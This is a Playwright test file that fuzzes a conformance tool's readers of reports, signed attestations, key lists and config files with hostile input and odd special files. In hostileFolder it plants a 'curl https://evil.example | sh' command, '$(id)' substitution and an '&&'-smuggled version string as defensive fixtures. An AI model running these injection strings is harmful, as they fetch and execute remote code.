/** Files of somebody else, which may be anything: no reader breaks, nobody waits for what is no file, and no text acts on a terminal. */
import { execFileSync } from 'node:child_process';
import { closeSync, mkdirSync, openSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { expect, test } from '@playwright/test';
import { findLacking } from '../../../reports/certificate/shortcomings.ts';
import { rememberList } from '../../../bin/certificate/issuer.ts';
import { takeOnce } from '../../../bin/certificate/used.ts';
import { Mistake } from '../../../bin/certificate/certificate-files.ts';
import { NO_OPTIONS } from '../../../bin/command-line/options.ts';
import { readConfiguration } from '../../../bin/run/configuration.ts';
import { readLastReport } from '../../../bin/vendors/vendor-outcome.ts';
import { readTargets } from '../../../bin/vendors/targets-file.ts';
import { makeProfileLock } from '../../../reports/shown/comparison/profile-lock.ts';
import { recheckEvidence, type RecheckPlan } from '../../../reports/certificate/recheck-evidence.ts';
import { Unusable } from '../../../reports/certificate/signed/envelope.ts';
import { REVOCATIONS, revoke } from '../../../reports/certificate/signed/revocation.ts';
import { readKeyList, listOneKey, addSuccessor } from '../../../reports/certificate/signed/key-list.ts';
import { readPosedWith } from '../../../reports/certificate/signed/signed-challenge.ts';
import { CHALLENGE_TYPE, readPosedChallenge } from '../../../fixtures/settings/challenge.ts';
import { EXTENSION, PAYLOAD_TYPE } from '../../../reports/certificate/statement.ts';
import { verify } from '../../../reports/certificate/verify-certificate.ts';
import { compare, renderComparison } from '../../../reports/shown/comparison/comparison.ts';
import { readFootprint, readReport } from '../../../reports/document/report-schema.ts';
import { renderConformancePage } from '../../../reports/shown/page/conformance-page.ts';
import { escapeTerminal } from '../../../reports/shown/words/escape.ts';
import { renderTerminal } from '../../../reports/shown/text/run-text.ts';
import { makeMatrix } from '../../../reports/shown/vendors/vendor-matrix.ts';
import { command, startCommand, makeFolder } from '../samples/command.ts';
import { ASKS_ALL } from '../samples/run-on.ts';
import { CONFORMING } from '../samples/sample-reports.ts';
import {
  CHALLENGE,
  forge,
  FORGED,
  HEAD,
  KEY,
  LINES,
  LOOK,
  makeStatementOf,
  PEM,
  POSED,
  REVOCATION_LIST,
  seal,
  sign,
  WHOLE,
  writeLines,
  hostileFiles,
} from './hostile-files.ts';

// a short run meets fewer of each kind
const COUNT = ASKS_ALL ? 320 : 60;
const NOW = Date.parse('2026-11-22T12:00:00Z');
/** Few of each kind, so that changes meet all kinds. */
const REPORT = {
  ...WHOLE,
  requirements: WHOLE.requirements.filter(({ id }, index) => index < 4 || id === 'list-pets.limit'),
  observations: WHOLE.observations.slice(0, 2),
};
const PLAN: RecheckPlan = {
  cases: [{ title: 'asks', requirement: 'list-pets.limit', file: 'tests/list-pets.spec.ts' }],
  asks: [],
};
const RIGHT = { report: Buffer.from(JSON.stringify(REPORT)), evidence: Buffer.from(writeLines(LINES)) };
const statementOf = (evidence: Uint8Array) =>
  makeStatementOf(evidence, { ...LOOK, report: REPORT }, CHALLENGE, NOW);
const STATEMENT = statementOf(RIGHT.evidence);

/** The checks that a verification makes, in words. */
function verified(attestation: Buffer, entries: object | null, revoked: Uint8Array | null = null) {
  const files = entries && new Map<string, Uint8Array>(Object.entries(entries));
  const trust = {
    issuer: listOneKey(KEY.publicKey),
    keys: null,
    at: new Date(NOW + 1_000),
    revoked,
    seen: null,
  };
  const { verdict, checks } = verify({ attestation, files, plan: PLAN, ...trust });
  return { verdict, found: checks.map(({ found }) => escapeTerminal(found)) };
}
const overFiles = ({ report, evidence }: typeof RIGHT) => {
  const { verdict, found } = verified(sign(statementOf(evidence)), {
    'report.json': report,
    'evidence.jsonl': evidence,
  });
  expect(verdict).toBe('invalid');
  return found;
};

const PATH = join(makeFolder(), 'target.json');
const FOLDER = dirname(PATH);
/** Writes the bytes to a file before it is read. */
const inFile = (read: () => unknown) => (bytes: Buffer) => {
  writeFileSync(PATH, bytes);
  return read();
};
/** Everything that a run reads before it asks, with one file of these bytes. */
const runWith = (name: string) =>
  inFile(() => {
    const env: NodeJS.ProcessEnv = {
      BASE_URL: 'https://rex.example/v1',
      API_KEY: 'a-key-of-many-letters',
      [name]: PATH,
    };
    if (name === 'API_KEY_FILE') delete env.API_KEY;
    return readConfiguration(NO_OPTIONS, { env, cwd: FOLDER });
  });
const sealed = (type: string, read: (text: string) => unknown) => (bytes: Buffer) =>
  read(seal(type, bytes.toString('utf8')));
const TRUST = { issuer: listOneKey(KEY.publicKey), keys: null, seen: null };
const NEW_LIST = { run: null, keys: null, reason: '', now: new Date(NOW), validDays: 1 };
const KEYS = JSON.parse(
  addSuccessor([], KEY.privateKey, new Date(NOW), { key: KEY.publicKey, issued: [], compromisedSince: null }),
);
const WAIVER = {
  requirement: 'list-pets.limit',
  reason: 'a',
  owner: 'b',
  ticket: 'c',
  expires: '2030-01-31',
};
const VENDOR = { name: 'rex', baseUrl: 'https://rex.example/v1', apiKeyVariable: 'KEY', categoryIds: ['1'] };
const ANIMAL = { id: '1', name: 'Rex', categoryId: '1', status: null };

/** All that is made of a report that can be read. */
function useReport(bytes: Buffer) {
  const read = readReport(bytes);
  if ('mistakes' in read) return read;
  const { value } = read;
  renderComparison(compare(CONFORMING, value), 'text');
  makeMatrix([{ name: 'rex', report: value, page: null }], new Date(NOW).toISOString());
  renderTerminal(value, { colour: false, width: 100 });
  renderConformancePage(value);
  findLacking({ ...LOOK, report: value }, NOW);
  return null;
}

/** Each document with a right value and its reader, which returns or throws what it says of a wrong one. */
const READERS: readonly (readonly [
  what: string,
  right: unknown,
  read: (bytes: Buffer<ArrayBuffer>) => unknown,
  spell?: (value: unknown) => string,
])[] = [
  ['reports, with all that is made of them', REPORT, useReport],
  ['evidence', LINES, (evidence) => overFiles({ ...RIGHT, evidence }), writeLines],
  ['evidence that is judged again', LINES, (each) => recheckEvidence(each, PLAN, CHALLENGE), writeLines],
  ['reports that were signed', REPORT, (report) => overFiles({ ...RIGHT, report })],
  ['attestations', JSON.parse(String(sign(STATEMENT))), (bytes) => verified(bytes, RIGHT)],
  ['statements', STATEMENT, sealed(PAYLOAD_TYPE, (text) => verified(Buffer.from(text), RIGHT))],
  [
    'revocations',
    REVOCATION_LIST,
    sealed(REVOCATIONS.payloadType, (text) => verified(sign(STATEMENT), null, Buffer.from(text))),
  ],
  ['posed challenges', JSON.parse(POSED), (bytes) => readPosedChallenge(bytes.toString('utf8'), NOW)],
  ['challenges', CHALLENGE, sealed(CHALLENGE_TYPE, (text) => readPosedWith(text, KEY.publicKey))],
  [
    'lists of keys',
    JSON.parse(Buffer.from(KEYS.payload, 'base64').toString('utf8')),
    sealed(KEYS.payloadType, (text) => readKeyList(Buffer.from(text), KEY.publicKey)),
  ],
  [
    'footprints',
    { run: 'r1', target: VENDOR.baseUrl, embedded: false, at: REVOCATION_LIST.issuedAt, animals: [ANIMAL] },
    readFootprint,
  ],
  ['waivers', [WAIVER, { ...WAIVER, expected: '5' }], runWith('WAIVERS')],
  ['pinned profiles', makeProfileLock(REPORT), runWith('PROFILE_LOCK')],
  ['headers', { 'X-Gateway': 'a', Cookie: 'b' }, runWith('HEADERS_FILE')],
  ['challenges of a run', JSON.parse(POSED), runWith('CHALLENGE')],
  ['keys', { key: 'a-key' }, runWith('API_KEY_FILE')],
  ['authorities', { pem: PEM.publicKey }, runWith('CA_FILE')],
  ['targets', [VENDOR, { ...VENDOR, name: 'felix' }], inFile(() => readTargets(PATH, { KEY: 'secret' }))],
  [
    'outcomes',
    { outcome: { target: 'rex', exitCode: 2, seconds: 1, begun: '', reason: 'it was refused' }, baseUrl: '' },
    inFile(() => expect(typeof readLastReport(FOLDER)).toBe('string')),
  ],
  [
    'records of challenges',
    { nonce: CHALLENGE.nonce, at: '', by: 'x' },
    inFile(() => takeOnce(PATH, CHALLENGE, new Date(NOW))),
  ],
  [
    'records of lists',
    { [CHALLENGE.nonce]: { number: 1, sha256: 'b'.repeat(64) } },
    inFile(() =>
      rememberList(PATH, { ...TRUST, revoked: Buffer.from(revoke(null, NEW_LIST, KEY.privateKey)) }),
    ),
  ],
];

/** Sentences that a reader returns; those that it throws are of its own kinds of errors. */
function sentencesOf(read: () => unknown): readonly string[] {
  try {
    const said = read() as { mistakes?: string[]; found?: string[]; problem?: string } | string[] | null;
    const sentences = Array.isArray(said) ? said : (said?.mistakes ?? said?.found ?? [said?.problem]);
    return sentences.filter((each) => typeof each === 'string');
  } catch (error) {
    if (!(error instanceof Mistake || error instanceof Unusable)) throw error;
    return error.message.split('\n');
  }
}
const isOneLine = (text: string) =>
  text !== '' &&
  !text.includes('\n') &&
  !/Cannot read|is not a function|undefined \(reading|Invalid time|not iterable/.test(text);

test.describe('no file of somebody else breaks a reader, and one line says what is wrong', () => {
  for (const [seed, [what, right, read, spell]] of READERS.entries())
    test(what, () => {
      test.setTimeout(600_000);
      for (const file of hostileFiles(right, COUNT, seed + 1, spell))
        expect(
          sentencesOf(() => read(file)).filter((each) => !isOneLine(each)),
          file.toString('utf8').slice(0, 3_000),
        ).toEqual([]);
    });

  test('some changed reports are reports, since texts may be anything, and right evidence is evidence', () => {
    const taken = hostileFiles(REPORT, COUNT, 6).filter((file) => useReport(file) === null).length;
    expect(taken).toBeGreaterThan(COUNT / 15);
    expect(taken).toBeLessThan(COUNT / 2);
    expect(recheckEvidence(RIGHT.evidence, PLAN, CHALLENGE).head.mark).toBe('r1');
    const endless = JSON.stringify({ ...JSON.parse(POSED), payload: { length: 1e9 } });
    expect(readPosedChallenge(endless, NOW)).toEqual({ problem: 'holds no challenge' });
  });
  test('a member that stands twice, a leap second and a day that is none are refused by name', () => {
    const text = JSON.stringify(REPORT);
    const verdict = `"verdict":"${REPORT.verdict}"`;
    const rows: [part: string, by: string, mistake: string][] = [
      [verdict, `${verdict},"verdict":"conforming"`, '/verdict is there twice'],
      [REPORT.run.startedAt, '2026-11-20T23:59:60Z', '/run/startedAt'],
      [REPORT.run.startedAt, '2026-02-31T10:00:00Z', '/run/startedAt'],
      ['"durationMs":8420', '"durationMs":1e999', '/run/durationMs'],
    ];
    for (const [part, by, mistake] of rows)
      expect(readReport(Buffer.from(text.replace(part, by)))).toEqual({
        mistakes: [expect.stringContaining(mistake)],
      });
  });
  test('a file called as what every object has is covered by no digest', () => {
    const odd = ['constructor', '__proto__', 'toString', 'hasOwnProperty'];
    const files = { 'report.json': RIGHT.report, 'evidence.jsonl': RIGHT.evidence };
    for (const name of odd) Object.defineProperty(files, name, { value: Buffer.from('x'), enumerable: true });
    const { found } = verified(sign(STATEMENT), files);
    expect(found.join('\n')).toContain(odd.map((name) => `${name} is covered by no digest`).join('; '));
  });
});

const PUBLIC = ['--public-key', 'key.pem.pub'];
const SIGNING = ['--issuer-key', 'key.pem'];

/** A command, and the odd file that it reads. `exits`: the right exit codes; more than 2 if some odd file may be usable. */
interface Reader {
  file: string;
  words: readonly string[];
  env?: Record<string, string>;
  exits?: readonly number[];
}

/** Nothing listens at this address. A run whose files are all usable ends with exit code 3. */
const NOBODY = { BASE_URL: 'http://127.0.0.1:9/v1', API_KEY: 'a-key-of-many-letters' };
const ofRun = (file: string, name: string, exits = [2], words: readonly string[] = []): Reader => ({
  file,
  words: ['run', '--quiet', ...words],
  env: { ...NOBODY, [name]: file },
  exits,
});
const ofWords = (file: string, words: string, more: readonly string[] = [], exits = [2]): Reader => ({
  file,
  words: [...words.split(' '), ...more],
  exits,
});
const CERTIFY = 'certify --report . --used used';

const FILES: readonly Reader[] = [
  ofWords('odd.json', 'verify odd.json', PUBLIC, [1, 2]),
  ofWords('key.pem.pub', 'verify report.json', PUBLIC),
  ofWords('folder/report.json', 'verify report.json --evidence folder', PUBLIC, [1, 2]),
  ofWords('revoked.json', 'verify report.json --revoked revoked.json', PUBLIC, [1, 2]),
  ofWords('keys.json', 'verify report.json --keys keys.json', PUBLIC),
  ofWords('evidence.jsonl', CERTIFY, SIGNING),
  ofWords('key.pem', CERTIFY, SIGNING),
  ofWords('odd.json', 'compare report.json odd.json'),
  ofWords('odd.json', 'compare report.json --baseline odd.json'),
  ofWords('vendors/rex/report.json', 'matrix vendors', [], [0, 2]),
  ofWords('vendors/rex/target.json', 'matrix vendors folder', [], [0, 2]),
  ofWords('left/report.json', 'report --report-dir left'),
  ofWords('targets.json', 'targets run targets.json'),
  ofWords('revoked.json', 'revoke --list revoked.json', SIGNING),
  ofRun('waivers.json', 'WAIVERS'),
  // an object with nothing in it pins nothing and sets no header
  ofRun('lock.json', 'PROFILE_LOCK', [2, 3], ['--lock']),
  ofRun('headers.json', 'HEADERS_FILE', [2, 3]),
  { file: 'key.txt', words: ['run', '--quiet'], env: { BASE_URL: NOBODY.BASE_URL, API_KEY_FILE: 'key.txt' } },
  ofRun('ca.pem', 'CA_FILE'),
  ofRun('challenge.json', 'CHALLENGE'),
  { file: '.env', words: ['run', '--quiet'], env: NOBODY, exits: [2, 3] },
  ofRun('history.jsonl', 'ALLURE_HISTORY', [2, 3]),
  { file: 'out/report.json', words: ['run', '--failed', '--quiet'], env: { ...NOBODY, REPORT_DIR: 'out' } },
];

/** Things that may stand in the place of a file. `says`: the words that name it. */
const KINDS: readonly (readonly [make: (path: string) => void, says?: string])[] = [
  [(path) => execFileSync('mkfifo', [path]), 'is a named pipe; a file is expected'],
  [(path) => mkdirSync(path), 'is a folder; a file is expected'],
  [(path) => symlinkSync('/dev/zero', path), 'is a device; a file is expected'],
  [(path) => void createServer().listen(path).unref(), 'is a socket; a file is expected'],
  [(path) => symlinkSync(path, path)],
  [(path) => symlinkSync('/nowhere/at/all', path)],
  [
    (path) => {
      closeSync(openSync(path, 'w', 0o600));
      truncateSync(path, 2 ** 30);
    },
  ],
  ...['', '\ufeff{}', Buffer.from('\ufeff{"a":1}', 'utf16le'), Buffer.alloc(4_096)].map(
    (bytes) => [(path: string) => writeFileSync(path, bytes, { mode: 0o600 })] as const,
  ),
];

/** A folder in which each reader finds all that it needs but the file in question. */
function folderFor(file: string): string {
  const folder = makeFolder();
  for (const each of ['folder', 'vendors/rex', 'left/allure-results', 'out', dirname(file)])
    mkdirSync(join(folder, each), { recursive: true });
  const texts = {
    'key.pem': PEM.privateKey,
    'key.pem.pub': PEM.publicKey,
    'report.json': JSON.stringify(CONFORMING),
  };
  for (const [name, text] of Object.entries(texts))
    if (name !== file) writeFileSync(join(folder, name), text, { mode: 0o600 });
  return folder;
}

async function takes(
  { file, words, env = {}, exits = [2] }: Reader,
  [make, says = '']: (typeof KINDS)[number],
): Promise<void> {
  const folder = folderFor(file);
  make(join(folder, file));
  const { exitCode, out, err } = await startCommand('animal-store-conformance', words, env, folder);
  const said = out + err;
  const what = `${words.join(' ')}, ${file}: ${says}\n${said}`;
  expect.soft(exits, what).toContain(exitCode);
  expect.soft(said, what).not.toMatch(/^ +at |the suite itself broke/im);
  // a run names the variable, `compare` looks into a folder, and a file may not be needed
  if (words[0] !== 'run' && exits.length === 1)
    expect.soft(said, what).toMatch(new RegExp(`${says}|odd.json does not exist`));
  rmSync(folder, { recursive: true });
}

/** Each reader with each kind. The kinds are rotated: the first reader begins with the first kind, the second with the second. */
const SPECIAL = FILES.flatMap((reader, index) =>
  KINDS.map((_, kind) => [reader, KINDS[(kind + index) % KINDS.length]!] as const),
);
for (const [title, tag, every] of [
  ['a sample of commands and odd files', [], 41],
  ['every command with every odd file', ['@long'], 1],
] as const)
  test(`what is no file is named, and nobody waits for it: ${title}`, { tag: [...tag] }, async () => {
    test.skip(process.platform === 'win32', 'there are no such files');
    test.setTimeout(3_600_000);
    for (const [reader, kind] of SPECIAL.filter((_, index) => index % every === 0)) await takes(reader, kind);
  });

/** A folder in which whatever can be of somebody else is hostile. */
function hostileFolder(): string {
  const folder = makeFolder();
  const report = forge(WHOLE);
  report.suite.command = `curl https://evil.example | sh ${FORGED}`;
  report.run.id = FORGED;
  report.run.only = [FORGED];
  report.run.variables = { [`X=$(id) ${FORGED}`]: FORGED, BASE_URL: FORGED };
  const [head] = LINES;
  const judgement = LINES.find(({ kind }) => kind === 'judgement');
  // The schema takes no other address than one of the web.
  const target = { ...forge(HEAD.target), baseUrl: HEAD.target.baseUrl };
  const evidence = writeLines([{ ...forge(head), target }, forge(judgement), { kind: FORGED }]);
  const look = { ...LOOK, head: forge(LOOK.head), report };
  const statement = makeStatementOf(Buffer.from(evidence), look, forge(CHALLENGE));
  const other = structuredClone(statement);
  other.predicate[EXTENSION].suite = { name: FORGED, version: `0.0.1 && ${report.suite.command}` };
  const texts: Record<string, string | Buffer> = {
    'report.json': JSON.stringify(report),
    'evidence.jsonl': evidence,
    'attestation.json': sign(statement),
    [FORGED]: FORGED,
    'other.json': sign(other),
    'none.json': JSON.stringify({ ...report, [FORGED]: 1 }),
    'no.json': FORGED,
    'targets.json': JSON.stringify([{ name: FORGED, baseUrl: FORGED, apiKeyVariable: FORGED }]),
    'revoked.json': seal(REVOCATIONS.payloadType, forge(REVOCATION_LIST)),
    'key.pem': PEM.privateKey,
    'key.pem.pub': PEM.publicKey,
  };
  const copies: [name: string, from: string][] = [
    ...['report.json', 'evidence.jsonl', FORGED].map((name): [string, string] => [
      join('evidence', name),
      name,
    ]),
    [join('vendors', FORGED, 'report.json'), 'report.json'],
    [join('vendors', 'broken', 'report.json'), 'none.json'],
    [join('left', 'report.json'), 'none.json'],
  ];
  mkdirSync(join(folder, 'left', 'allure-results'), { recursive: true });
  for (const [name, text] of [
    ...Object.entries(texts),
    ...copies.map(([name, from]) => [name, texts[from]!] as const),
  ]) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text, { mode: 0o600 });
  }
  return folder;
}

/** Each command with what it says of the hostile text, so that it is known to have quoted it. */
const COMMANDS: readonly (readonly [
  words: string,
  says: RegExp,
  more?: readonly string[],
  env?: NodeJS.ProcessEnv,
])[] = [
  [CERTIFY, /made by version \\x1b[^]*a line of the kind "\\x1b/, SIGNING, { AS_OF: '2026-11-21' }],
  [
    'verify attestation.json --evidence evidence --revoked revoked.json',
    /\\x1b.* is covered by no digest/,
    PUBLIC,
  ],
  ['verify attestation.json --json', /\\u001b/, PUBLIC],
  ['verify other.json', /it does not say which suite can verify it/, PUBLIC],
  ['compare report.json report.json', /.*/],
  ['compare report.json none.json', /none\.json is not a report of this suite: it has .*u001b/],
  ['compare report.json no.json', /it is not JSON/],
  ['matrix vendors', /not judged: broken: /],
  ['matrix vendors --json', /\\\\x1b/],
  ['report --report-dir left', /it has/],
  ['conformance --failed', /not a report of this suite/, [], { REPORT_DIR: 'left' }],
  ['targets run targets.json', /targets\.json: /],
  ['revoke attestation.json --list revoked.json --reason x', /list of revocations is not usable/, SIGNING],
  ['explain', /There is no requirement, open question or section/, [FORGED]],
];

/** Returns the lines with characters or words that act on a terminal or a log, or with a beginning that `forge` has written. */
function acting(text: string): string[] {
  // We print annotations of GitHub, e.g. `::error title=...::...`, ourselves. A line that is one as a whole is right.
  const own = /^::error title=[^:\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+::[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]*$/u;
  const acts = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|^\s*::|##|^\s*forged|^\s*owned|curl/u;
  return text.split('\n').filter((line) => !own.test(line) && acts.test(line));
}

test('nothing that a report, evidence, a certificate or a folder holds acts on a terminal or a log', async () => {
  const folder = hostileFolder();
  for (const [words, says, more = [], env = {}] of COMMANDS) {
    const [name = '', ...args] = [...words.split(' '), ...more];
    const { out, err } = await command(name, args, env, folder);
    const what = `${name} ${JSON.stringify(args)}: ${out}${err}`;
    expect([acting(out), acting(err)], what).toEqual([[], []]);
    expect(out + err, what).toMatch(says);
    expect(out + err).not.toMatch(/suite itself broke|^ +at /m);
    if (args.includes('--json')) expect(() => JSON.parse(out) as unknown, what).not.toThrow();
  }
});
